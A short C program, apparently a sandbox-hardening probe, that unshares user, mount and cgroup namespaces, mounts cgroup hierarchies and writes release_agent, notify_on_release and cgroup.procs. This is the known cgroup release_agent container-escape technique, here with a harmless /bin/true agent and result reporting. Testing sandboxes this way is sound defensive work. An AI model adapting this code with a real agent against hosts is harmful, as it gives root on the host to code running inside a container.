/* Looks for a hierarchy of control groups whose release agent, run by the host's root, it could name: in a user namespace of its own. */
#include "attack.h"
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

static void put(const char *path, const char *text) {
  int file = open(path, O_WRONLY);
  report(path, file < 0 ? -1 : write(file, text, strlen(text)));
}

int main(void) {
  static const char *const hierarchies[] = {"memory", "pids", "rdma", "devices", "misc", "none,name=souk"};
  only_in_a_sandbox();
  report("user, mounts and groups", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
  report("groups", unshare(CLONE_NEWCGROUP));
  mkdir("/tmp/group", 0755);
  for (size_t i = 0; i < sizeof hierarchies / sizeof *hierarchies; i++)
    report(hierarchies[i], mount("cgroup", "/tmp/group", "cgroup", 0, hierarchies[i]));
  report("v2", mount("cgroup", "/tmp/group", "cgroup2", 0, NULL));
  put("/tmp/group/release_agent", "/bin/true");
  put("/tmp/group/notify_on_release", "1");
  put("/tmp/group/cgroup.procs", "0");
  return 0;
}
